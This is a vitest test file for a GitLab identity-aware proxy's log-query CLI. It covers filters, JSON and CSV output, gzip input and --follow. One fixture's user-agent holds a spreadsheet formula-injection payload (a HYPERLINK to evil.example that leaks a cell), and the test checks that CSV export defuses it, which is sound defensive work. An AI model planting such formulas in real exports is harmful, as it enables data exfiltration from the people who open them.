/**
 * `gitlab-iap logs` (the query side), driven through the real bin script on fixture files: the same
 * records spelled compact, with spaces (Python's json.dumps), with \u escapes and nested, CSV for
 * machines, repeated filters, file order, gzip on stdin, and group aliases from the config.
 */
import { spawn } from 'node:child_process'
import { appendFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { BIN, ROOT } from '../../helpers/serve.ts'

const ENGINEERING = '6c0bd1d2-0000-4000-8000-000000000002'
const ADMINS = '6c0bd1d2-0000-4000-8000-000000000001'

let dir: string

interface CliResult {
  code: number
  stdout: string
  stderr: string
}

function cli(args: string[], options: { input?: string | Buffer; cwd?: string; env?: NodeJS.ProcessEnv } = {}): Promise<CliResult> {
  return new Promise((resolve) => {
    const env = { ...process.env, ...options.env }
    if (!options.env?.GITLAB_IAP_CONFIG) delete env.GITLAB_IAP_CONFIG
    const child = spawn(process.execPath, [BIN, ...args], { cwd: options.cwd ?? ROOT, env })
    let stdout = ''
    let stderr = ''
    child.stdout.on('data', (d) => (stdout += d))
    child.stderr.on('data', (d) => (stderr += d))
    child.on('close', (code) => resolve({ code: code ?? -1, stdout, stderr }))
    child.stdin.on('error', () => {})
    child.stdin.end(options.input)
  })
}

const jsonLines = (out: string) => out.split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>)
const ids = (out: string) => jsonLines(out).map((r) => r['http.request.id'] ?? (r as { http?: { request?: { id?: unknown } } }).http?.request?.id)

const RECORDS: Record<string, unknown>[] = [
  {
    '@timestamp': '2026-11-27T10:07:46.679Z', 'http.request.id': 'r1', 'http.request.method': 'GET', 'url.path': '/admin/users', 'http.response.status_code': 403,
    'http.response.bytes': 10, 'event.duration': 1000, 'event.outcome': 'failure', 'client.ip': '10.1.2.3', 'user_agent.original': 'curl/8',
    'user.id': 'aaaaaaaa-0000-4000-8000-000000000001', 'user.name': 'ada@contoso.com', 'user.email': 'ada.l@contoso.com', 'iap.identity.kind': 'user',
    'iap.identity.groups': [ENGINEERING], 'iap.auth.method': 'session', 'iap.decision.result': 'deny', 'iap.decision.rule': 'admin-area',
    'iap.decision.reason': 'no-group-match', 'iap.gitlab.route': 'web',
  },
  {
    '@timestamp': '2026-11-28T05:07:46.679Z', 'http.request.id': 'r2', 'http.request.method': 'POST', 'url.path': '/secret-group/proj.git/git-receive-pack',
    'http.response.status_code': 200, 'http.response.bytes': 10, 'event.duration': 1000, 'event.outcome': 'success', 'client.ip': '192.168.1.5',
    'user_agent.original': 'git/2.45', 'user.id': 'bbbbbbbb-0000-4000-8000-000000000002', 'user.name': 'josé@contoso.com', 'user.email': 'josé@contoso.com',
    'iap.identity.kind': 'user', 'iap.identity.groups': [ADMINS], 'iap.auth.method': 'bearer', 'iap.decision.result': 'allow',
    'iap.decision.rule': 'secret-projects', 'iap.decision.reason': 'group-match', 'iap.gitlab.route': 'git', 'iap.gitlab.project': 'secret-group/proj',
  },
  {
    '@timestamp': '2026-11-28T08:07:46.679Z', 'http.request.id': 'r3', 'http.request.method': 'GET', 'url.path': '/-/health', 'http.response.status_code': 200,
    'http.response.bytes': 10, 'event.duration': 1000, 'event.outcome': 'success', 'client.ip': '127.0.0.1', 'user_agent.original': 'curl/8',
    'user.id': null, 'user.name': null, 'user.email': null, 'iap.identity.kind': 'anonymous', 'iap.identity.groups': [], 'iap.auth.method': 'none',
    'iap.decision.result': 'allow', 'iap.decision.rule': 'gitlab-health', 'iap.decision.reason': 'public', 'iap.gitlab.route': 'web',
  },
  {
    '@timestamp': '2026-11-28T09:07:46.679Z', 'http.request.id': 'r4', 'http.request.method': 'GET', 'url.path': '/api/v4/projects/secret-group%2Fproj/issues',
    'http.response.status_code': 502, 'http.response.bytes': 10, 'event.duration': 1000, 'event.outcome': 'failure', 'client.ip': '10.9.9.9',
    'user_agent.original': '=HYPERLINK("http://evil.example/?x="&A1,"click")', 'user.id': 'aaaaaaaa-0000-4000-8000-000000000001', 'user.name': 'ada@contoso.com',
    'user.email': 'ada.l@contoso.com', 'iap.identity.kind': 'user', 'iap.identity.groups': [ENGINEERING], 'iap.auth.method': 'bearer',
    'iap.decision.result': 'allow', 'iap.decision.rule': 'read-everything', 'iap.decision.reason': 'group-match', 'iap.gitlab.route': 'api',
    'iap.gitlab.project': 'secret-group/proj', 'error.code': 'upstream-reset',
  },
  {
    '@timestamp': '2026-11-28T09:37:46.679Z', 'http.request.id': 'r5', 'http.request.method': 'GET', 'url.path': '/-/+evil,"quoted"', 'http.response.status_code': 401,
    'http.response.bytes': 10, 'event.duration': 1000, 'event.outcome': 'failure', 'client.ip': '2001:db8::1', 'user_agent.original': '@SUM(1+1)',
    'user.id': null, 'user.name': null, 'user.email': null, 'iap.identity.kind': 'anonymous', 'iap.identity.groups': [], 'iap.auth.method': 'none',
    'iap.decision.result': 'challenge', 'iap.decision.rule': 'read-everything', 'iap.decision.reason': 'login-required', 'iap.gitlab.route': 'web',
    'iap.gitlab.project': 'group/sub/project',
  },
]

/** Python's json.dumps: ", " and ": " separators, non-ASCII as \u escapes. */
const pythonDumps = (r: Record<string, unknown>) =>
  JSON.stringify(r, null, 1).replace(/\n\s*/g, ' ').replace(/\[ /g, '[').replace(/ \]/g, ']').replace(/\{ /g, '{').replace(/ \}/g, '}')
    .replace(/[\u0080-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)

/** Nested ECS: `{"http":{"request":{"id":…}}}`. */
function nest(r: Record<string, unknown>): Record<string, unknown> {
  const out: Record<string, unknown> = {}
  for (const [key, value] of Object.entries(r)) {
    if (key === '@timestamp') {
      out[key] = value
      continue
    }
    const parts = key.split('.')
    let at = out
    for (const part of parts.slice(0, -1)) at = (at[part] ??= {}) as Record<string, unknown>
    at[parts.at(-1)!] = value
  }
  return out
}

const file = (name: string) => join(dir, name)

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'gitlab-iap-query-'))
  writeFileSync(file('compact.ndjson'), RECORDS.map((r) => JSON.stringify(r)).join('\n') + '\n')
  writeFileSync(file('spaced.ndjson'), RECORDS.map(pythonDumps).join('\n') + '\n')
  writeFileSync(file('nested.ndjson'), RECORDS.map((r) => pythonDumps(nest(r))).join('\n') + '\n')
  writeFileSync(file('compact.ndjson.gz'), gzipSync(RECORDS.map((r) => JSON.stringify(r)).join('\n') + '\n'))
})
afterAll(() => rmSync(dir, { recursive: true, force: true }))

describe('every JSON spelling of a record is read the same', () => {
  const cases: [string[], string[]][] = [
    [['--method', 'POST'], ['r2']],
    [['--status', '403'], ['r1']],
    [['--status', '5xx'], ['r4']],
    [['--decision', 'deny'], ['r1']],
    [['--auth', 'bearer'], ['r2', 'r4']],
    [['--rule', 'read-everything'], ['r4', 'r5']],
    [['--request-id', 'r3'], ['r3']],
    [['--user', 'josé@contoso.com'], ['r2']],
    [['--user', 'ada@contoso.com', '--status', '4xx'], ['r1']],
    [['--group', ADMINS], ['r2']],
    [['--ip', '10.0.0.0/8'], ['r1', 'r4']],
    [['--project', 'secret-group'], ['r2', 'r4']],
    [['--path', '/api/**'], ['r4']],
    [['--since', '2026-11-28T09:00:00Z'], ['r4', 'r5']],
  ]
  it.each(['compact.ndjson', 'spaced.ndjson', 'nested.ndjson'])('%s', { timeout: 90_000 }, async (name) => {
    const results = await Promise.all(cases.map(([filters]) => cli(['logs', file(name), ...filters, '--output', 'json'])))
    cases.forEach(([filters, expected], i) => {
      expect(results[i]!.stderr, filters.join(' ')).toBe('')
      expect(ids(results[i]!.stdout), `${name} ${filters.join(' ')}`).toEqual(expected)
    })
  })

  it('nested records fill the table, the CSV and --stats', { timeout: 90_000 }, async () => {
    const table = await cli(['logs', file('nested.ndjson'), '--request-id', 'r2'])
    expect(table.stdout.split('\n')[1]).toMatch(/^2026-11-28 05:07:46Z\s+200\s+POST\s+josé@contoso\.com\s+bearer\s+allow\s+secret-projects\s+git\s+192\.168\.1\.5\s+\/secret-group\/proj\.git\/git-receive-pack$/)
    const csvNested = await cli(['logs', file('nested.ndjson'), '--output', 'csv'])
    const csvFlat = await cli(['logs', file('compact.ndjson'), '--output', 'csv'])
    expect(csvNested.stdout).toBe(csvFlat.stdout)
    const stats = await cli(['logs', file('nested.ndjson'), '--stats', 'user', '--output', 'csv'])
    expect(stats.stdout).toBe('user,count\n,2\nada@contoso.com,2\njosé@contoso.com,1\n')
  })
})

describe('filter values', () => {
  it('enum values and methods are case-insensitive', { timeout: 90_000 }, async () => {
    for (const [filters, expected] of [
      [['--decision', 'DENY'], ['r1']],
      [['--auth', 'Bearer'], ['r2', 'r4']],
      [['--method', 'post'], ['r2']],
      [['--status', '5XX'], ['r4']],
    ] as const) {
      const res = await cli(['logs', file('compact.ndjson'), ...filters, '--output', 'json'])
      expect(ids(res.stdout), filters.join(' ')).toEqual(expected)
    }
  })

  it('a repeated filter matches any of its values; different filters must all match', { timeout: 90_000 }, async () => {
    const users = await cli(['logs', file('compact.ndjson'), '--user', 'josé@contoso.com', '--user', 'ada@contoso.com', '--output', 'json'])
    expect(ids(users.stdout)).toEqual(['r1', 'r2', 'r4'])
    const both = await cli(['logs', file('spaced.ndjson'), '--status', '403', '--status', '5xx', '--user', 'ada@contoso.com', '--output', 'json'])
    expect(ids(both.stdout)).toEqual(['r1', 'r4'])
    const help = await cli(['logs', '--help'])
    expect(help.stdout).toMatch(/more than once matches any of\s+its values/)
    const twice = await cli(['logs', file('compact.ndjson'), '--since', '1h', '--since', '2h'])
    expect(twice.code).toBe(2)
    expect(twice.stderr.trim()).toBe('gitlab-iap: --since may be given only once')
  })

  it('--limit 0 prints no record; a negative --limit is a one-line error', { timeout: 90_000 }, async () => {
    const zero = await cli(['logs', file('compact.ndjson'), '--limit', '0', '--output', 'json'])
    expect(zero.code).toBe(0)
    expect(zero.stdout).toBe('')
    const one = await cli(['logs', file('compact.ndjson'), '--limit', '1', '--output', 'json'])
    expect(ids(one.stdout)).toEqual(['r1'])
    for (const bad of ['-1', '1.5', 'x']) {
      const res = await cli(['logs', file('compact.ndjson'), '--limit', bad])
      expect(res.code).toBe(2)
      expect(res.stderr).toBe(`gitlab-iap: --limit: "${bad}" must be a non-negative integer\n`)
    }
  })
})

describe('--output csv', () => {
  const parseCsv = (text: string): string[][] => {
    const rows: string[][] = []
    let row: string[] = []
    let cell = ''
    let quoted = false
    for (let i = 0; i < text.length; i++) {
      const c = text[i]!
      if (quoted) {
        if (c === '"' && text[i + 1] === '"') (cell += '"'), i++
        else if (c === '"') quoted = false
        else cell += c
      } else if (c === '"') quoted = true
      else if (c === ',') row.push(cell), (cell = '')
      else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '')
      else cell += c
    }
    return rows
  }

  it('has a header row, full ISO timestamps and the fields a security review needs', { timeout: 90_000 }, async () => {
    const res = await cli(['logs', file('compact.ndjson'), '--output', 'csv'])
    const [header, ...rows] = parseCsv(res.stdout)
    for (const field of [
      '@timestamp', 'http.request.id', 'client.ip', 'user.id', 'user.name', 'user.email', 'iap.identity.kind', 'iap.auth.method', 'http.request.method',
      'url.path', 'http.response.status_code', 'iap.decision.result', 'iap.decision.rule', 'iap.decision.reason', 'iap.gitlab.route', 'iap.gitlab.project',
      'event.duration', 'http.response.bytes',
    ]) expect(header, field).toContain(field)
    expect(rows).toHaveLength(RECORDS.length)
    const cell = (row: string[], field: string) => row[header!.indexOf(field)]
    expect(cell(rows[1]!, '@timestamp')).toBe('2026-11-28T05:07:46.679Z')
    expect(cell(rows[1]!, 'http.request.id')).toBe('r2')
    expect(cell(rows[1]!, 'user.id')).toBe('bbbbbbbb-0000-4000-8000-000000000002')
    expect(cell(rows[1]!, 'user.email')).toBe('josé@contoso.com')
    expect(cell(rows[1]!, 'iap.gitlab.project')).toBe('secret-group/proj')
    expect(cell(rows[1]!, 'iap.decision.reason')).toBe('group-match')
    expect(cell(rows[1]!, 'http.response.status_code')).toBe('200')
    expect(cell(rows[2]!, 'user.id')).toBe('')
  })

  it('quotes, and defuses spreadsheet formulas in values clients control', { timeout: 90_000 }, async () => {
    const res = await cli(['logs', file('compact.ndjson'), '--output', 'csv'])
    const [header, ...rows] = parseCsv(res.stdout)
    const cell = (row: string[], field: string) => row[header!.indexOf(field)]
    expect(cell(rows[3]!, 'user_agent.original')).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`)
    expect(cell(rows[4]!, 'user_agent.original')).toBe(`'@SUM(1+1)`)
    expect(cell(rows[4]!, 'url.path')).toBe(`/-/+evil,"quoted"`)
    expect(res.stdout.split('\n').slice(1).every((line) => !/(^|,)[=+\-@]/.test(line))).toBe(true)
  })
})

describe('inputs', () => {
  it('reads given files in the order given; a log\'s rotated files still go first, oldest first', { timeout: 90_000 }, async () => {
    writeFileSync(file('b.log'), JSON.stringify(RECORDS[0]) + '\n')
    writeFileSync(file('a.log'), JSON.stringify(RECORDS[1]) + '\n')
    writeFileSync(file('a.log.20261128T090000000Z-001.gz'), gzipSync(JSON.stringify(RECORDS[2]) + '\n'))
    const res = await cli(['logs', file('b.log'), file('a.log'), file('a.log.20261128T090000000Z-001.gz'), '--output', 'json'])
    expect(ids(res.stdout)).toEqual(['r1', 'r3', 'r2'])
    expect((await cli(['logs', '--help'])).stdout).toMatch(/Files are read in the order given, except that a log's rotated files/)
  })

  it('recognises gzip data on stdin', { timeout: 90_000 }, async () => {
    const gz = gzipSync(RECORDS.map((r) => JSON.stringify(r)).join('\n') + '\n')
    const res = await cli(['logs', '--decision', 'deny', '--output', 'json'], { input: gz })
    expect(res.stderr).toBe('')
    expect(ids(res.stdout)).toEqual(['r1'])
    const dash = await cli(['logs', '-', '--status', '2xx', '--output', 'json'], { input: gz })
    expect(ids(dash.stdout)).toEqual(['r2', 'r3'])
  })

  it('a corrupt .gz, gzip garbage on stdin and a directory are one-line errors naming the input', { timeout: 90_000 }, async () => {
    writeFileSync(file('garbage.gz'), 'garbage\n')
    const whole = gzipSync(RECORDS.map((r) => JSON.stringify(r)).join('\n') + '\n')
    writeFileSync(file('cut.gz'), whole.subarray(0, whole.length - 20))
    mkdirSync(file('adir'), { recursive: true })
    for (const [args, input, message] of [
      [[file('garbage.gz')], undefined, `cannot read ${file('garbage.gz')}: not gzip data`],
      [[file('cut.gz')], undefined, `cannot read ${file('cut.gz')}: corrupt gzip data`],
      [[], Buffer.from([0x1f, 0x8b, 0x41, 0x42, 0x43]), 'cannot read stdin: corrupt gzip data'],
      [[file('adir')], undefined, `cannot read ${file('adir')}: is a directory`],
    ] as const) {
      const res = await cli(['logs', ...args, '--output', 'json'], { input })
      expect(res.code, message).not.toBe(0)
      expect(res.stderr.split('\n').filter(Boolean), message).toHaveLength(1)
      expect(res.stderr, message).toContain(`gitlab-iap: ${message}`)
      expect(res.stderr).not.toMatch(/unexpected error|at .*\.ts:\d+/)
    }
  })
})

describe('--stats and --group', () => {
  it('--stats status --output json prints the status as a number', { timeout: 90_000 }, async () => {
    const res = await cli(['logs', file('spaced.ndjson'), '--stats', 'status', '--output', 'json'])
    expect(jsonLines(res.stdout)).toEqual([{ status: 200, count: 2 }, { status: 401, count: 1 }, { status: 403, count: 1 }, { status: 502, count: 1 }])
  })

  it('resolves group aliases from the config, found as serve finds it; without one, hints on stderr', { timeout: 90_000 }, async () => {
    const cfgDir = join(dir, 'cfg')
    mkdirSync(cfgDir, { recursive: true })
    // A whole config whose secrets are not set: only its groups are read.
    const config = `server: { publicUrl: "https://gitlab.example.com" }\nentra: { clientSecret: "\${NEVER_SET_SECRET}" }\ngroups:\n  engineering: "${ENGINEERING}"\n  admins: "${ADMINS}"\n`
    writeFileSync(join(cfgDir, 'config.yaml'), config)
    const expected = ['r1', 'r4']
    const flag = await cli(['logs', file('compact.ndjson'), '--group', 'engineering', '--config', join(cfgDir, 'config.yaml'), '--output', 'json'])
    expect(flag.stderr).toBe('')
    expect(ids(flag.stdout)).toEqual(expected)
    const fromEnv = await cli(['logs', file('compact.ndjson'), '--group', 'engineering', '--output', 'json'], { env: { GITLAB_IAP_CONFIG: join(cfgDir, 'config.yaml') } })
    expect(ids(fromEnv.stdout)).toEqual(expected)
    const fromCwd = await cli(['logs', file('spaced.ndjson'), '--group', 'engineering', '--group', 'admins', '--output', 'json'], { cwd: cfgDir })
    expect(ids(fromCwd.stdout)).toEqual(['r1', 'r2', 'r4'])

    const none = await cli(['logs', file('compact.ndjson'), '--group', 'engineering', '--output', 'json'], { cwd: dir })
    expect(none.code).toBe(0)
    expect(none.stdout).toBe('')
    expect(none.stderr.split('\n').filter(Boolean)).toHaveLength(1)
    expect(none.stderr).toMatch(/^gitlab-iap: hint: --group "engineering" is not a group id.*--config/)
    const byId = await cli(['logs', file('compact.ndjson'), '--group', ENGINEERING, '--output', 'json'], { cwd: dir })
    expect(byId.stderr).toBe('')
    const missing = await cli(['logs', file('compact.ndjson'), '--group', 'engineering', '--config', join(dir, 'nope.yaml')])
    expect(missing.code).not.toBe(0)
    expect(missing.stderr).toContain('nope.yaml')
  })
})

describe('--follow with table output', () => {
  it('prints rows in full even when nothing matched before following', { timeout: 60_000 }, async () => {
    const live = file('live.ndjson')
    writeFileSync(live, JSON.stringify(RECORDS[0]) + '\n')
    const child = spawn(process.execPath, [BIN, 'logs', live, '--follow', '--decision', 'allow'], { cwd: ROOT })
    let out = ''
    child.stdout.on('data', (d) => (out += d))
    try {
      await expect.poll(() => out.includes('time'), { timeout: 20_000 }).toBe(true)
      const longUser = 'someone.with.a.long.name@subsidiary.contoso.com'
      writeFileSync(live, JSON.stringify({ ...RECORDS[1], 'user.name': longUser, 'iap.decision.rule': 'a-rather-long-rule-name', 'client.ip': '2001:db8:1234:5678::99' }) + '\n', { flag: 'a' })
      await expect.poll(() => out.includes('git-receive-pack'), { timeout: 20_000 }).toBe(true)
      const row = out.split('\n')[1]!
      for (const value of ['2026-11-28 05:07:46', 'POST', longUser, 'bearer', 'allow', 'a-rather-long-rule-name', '2001:db8:1234:5678::99', '/secret-group/proj.git/git-receive-pack']) {
        expect(row).toContain(value)
      }
      expect(row).not.toContain('…')
    } finally {
      child.kill('SIGTERM')
    }
  })
})

describe('limits and zones', () => {
  it('an enormous line is skipped as it is read, never held: 256 MiB in a 64 MiB heap', { timeout: 90_000 }, async () => {
    const child = spawn(process.execPath, ['--max-old-space-size=64', BIN, 'logs', '--output', 'json'], { cwd: ROOT })
    let stdout = ''
    let stderr = ''
    child.stdout.on('data', (d) => (stdout += d))
    child.stderr.on('data', (d) => (stderr += d))
    child.stdin.on('error', () => {})
    const closed = new Promise<number | null>((resolve) => child.on('close', resolve))
    try {
      const mib = Buffer.alloc(1 << 20, 0x61)
      child.stdin.write(JSON.stringify(RECORDS[0]) + '\n{"url.path":"')
      for (let i = 0; i < 256 && child.exitCode === null; i++) {
        if (!child.stdin.write(mib)) await new Promise((resolve) => child.stdin.once('drain', resolve))
      }
      child.stdin.end('"}\n' + JSON.stringify(RECORDS[1]) + '\n')
      expect(await closed, stderr).toBe(0)
    } finally {
      child.kill('SIGKILL')
    }
    expect(ids(stdout)).toEqual(['r1', 'r2'])
    expect(stderr.trim()).toBe('gitlab-iap: 1 line was longer than 4 MiB (longer than any access-log record) and was skipped')
  })

  it('--follow skips an enormous line as it arrives, never holding it, and counts it', { timeout: 90_000 }, async () => {
    const live = file('follow-long.ndjson')
    writeFileSync(live, JSON.stringify(RECORDS[0]) + '\n{"url.path":"')
    const child = spawn(process.execPath, ['--max-old-space-size=64', BIN, 'logs', live, '--follow', '--output', 'json'], { cwd: ROOT })
    let stdout = ''
    let stderr = ''
    child.stdout.on('data', (d) => (stdout += d))
    child.stderr.on('data', (d) => (stderr += d))
    const closed = new Promise<number | null>((resolve) => child.on('close', resolve))
    try {
      await expect.poll(() => ids(stdout), { timeout: 20_000 }).toEqual(['r1'])
      const mib = 'a'.repeat(1 << 20)
      for (let i = 0; i < 160 && child.exitCode === null; i++) {
        appendFileSync(live, mib)
        if (i % 16 === 0) await new Promise((resolve) => setTimeout(resolve, 50)) // read while it grows
      }
      appendFileSync(live, '"}\n' + JSON.stringify(RECORDS[1]) + '\n')
      await expect.poll(() => ids(stdout), { timeout: 30_000 }).toEqual(['r1', 'r2'])
    } finally {
      child.kill('SIGTERM')
    }
    expect(await closed, stderr).toBe(0)
    expect(stderr.trim()).toBe('gitlab-iap: 1 line was longer than 4 MiB (longer than any access-log record) and was skipped')
  })

  it('--since without a zone is UTC, and the table says UTC, in any local zone', { timeout: 90_000 }, async () => {
    for (const TZ of ['America/New_York', 'Asia/Kolkata']) {
      const res = await cli(['logs', file('compact.ndjson'), '--since', '2026-11-28 09:00:00', '--output', 'json'], { env: { TZ } })
      expect(ids(res.stdout), TZ).toEqual(['r4', 'r5'])
      const table = await cli(['logs', file('compact.ndjson'), '--request-id', 'r2'], { env: { TZ } })
      expect(table.stdout.split('\n')[1], TZ).toMatch(/^2026-11-28 05:07:46Z /)
    }
  })
})
